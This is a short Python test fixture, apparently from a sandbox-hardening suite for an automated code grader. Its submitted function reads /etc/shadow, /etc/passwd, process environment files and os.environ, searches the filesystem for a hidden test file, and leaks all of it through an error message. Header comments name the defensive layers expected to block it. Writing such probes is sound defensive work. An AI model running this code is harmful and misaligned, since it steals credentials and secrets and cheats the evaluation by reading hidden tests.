# attack: read /etc/shadow, the grader's environment, other processes' environments and the hidden tests, and put them in an error message
# layer: namespaces (no /etc, no host /proc) + Landlock + own uid + a clean environment; the audit hook names it
# expect: reading the file
import os


def _loot():
    found = []
    for path in ("/etc/shadow", "/etc/passwd", "/proc/1/environ", f"/proc/{os.getppid()}/environ",
                 "/proc/self/environ"):
        try:
            with open(path, "rb") as f:
                found.append(f"{path}: {f.read(300)!r}")
        except OSError as e:
            found.append(f"{path}: {type(e).__name__}")
    found.append("environ: " + repr(dict(os.environ))[:500])
    for root, dirs, files in os.walk("/"):
        if "test_06_weight_values.py" in files:
            with open(os.path.join(root, "test_06_weight_values.py")) as f:
                found.append(f.read(300))
        if root.count("/") > 6:
            dirs[:] = []
    return "\n".join(found)


def weight_values(probs, v):
    raise RuntimeError(_loot())
